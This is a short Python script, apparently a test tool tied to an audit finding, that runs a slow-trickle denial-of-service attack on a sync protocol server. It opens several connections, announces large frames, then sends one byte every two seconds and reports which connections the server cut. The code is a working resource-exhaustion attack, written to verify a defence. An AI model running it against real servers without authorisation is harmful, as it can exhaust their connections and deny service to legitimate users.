#!/usr/bin/env python3
"""trickle.py HOST PORT SRC CONNS SECONDS [SIZE]: the attack of issue 21's
finding 4 on the sync link, from SRC (the peer's address; no secret
needed): CONNS connections each read the greeting, announce a frame of
SIZE bytes (default 1 MB), then send a byte every 2 s, for SECONDS at
most.  Prints one JSON line: for each
connection, how long it lasted and how it ended ("cut": the server closed
it; "open": still open at the end)."""
import json, select, socket, struct, sys, time

host, port, src, conns, seconds = (sys.argv[1], int(sys.argv[2]),
                                   sys.argv[3], int(sys.argv[4]),
                                   float(sys.argv[5]))
size = int(sys.argv[6]) if len(sys.argv) > 6 else 1 << 20
socks = []
ungreeted = 0
for _ in range(conns):
    s = socket.socket()
    s.bind((src, 0))
    s.settimeout(3)
    s.connect((host, port))
    try:
        n = struct.unpack("!I", s.recv(4))[0]
        s.recv(n)                    # the greeting
    except (OSError, struct.error):
        ungreeted += 1               # the server is busy with another
        s.close()
        continue
    s.sendall(struct.pack("!I", size))
    socks.append({"s": s, "start": time.monotonic(), "end": None})
print("trickling", flush=True, file=sys.stderr)
deadline = time.monotonic() + seconds
while time.monotonic() < deadline and any(c["end"] is None for c in socks):
    for c in socks:
        if c["end"] is not None:
            continue
        try:
            if select.select([c["s"]], [], [], 0)[0] and not c["s"].recv(64):
                raise OSError("closed")
            c["s"].sendall(b"x")
        except OSError:
            c["end"] = time.monotonic()
    # Two seconds, or less when the server ends a connection.
    live = [c["s"] for c in socks if c["end"] is None]
    if live:
        for s in select.select(live, [], [], 2)[0]:
            for c in socks:
                if c["s"] is s:
                    try:
                        if not s.recv(64):
                            c["end"] = time.monotonic()
                    except OSError:
                        c["end"] = time.monotonic()
        time.sleep(0.05)
out = []
for c in socks:
    how = "cut" if c["end"] is not None else "open"
    end = c["end"] if c["end"] is not None else time.monotonic()
    out.append({"end": how, "seconds": round(end - c["start"], 1)})
    c["s"].close()
out += [{"end": "no greeting within 3 s"}] * ungreeted
print(json.dumps(out))
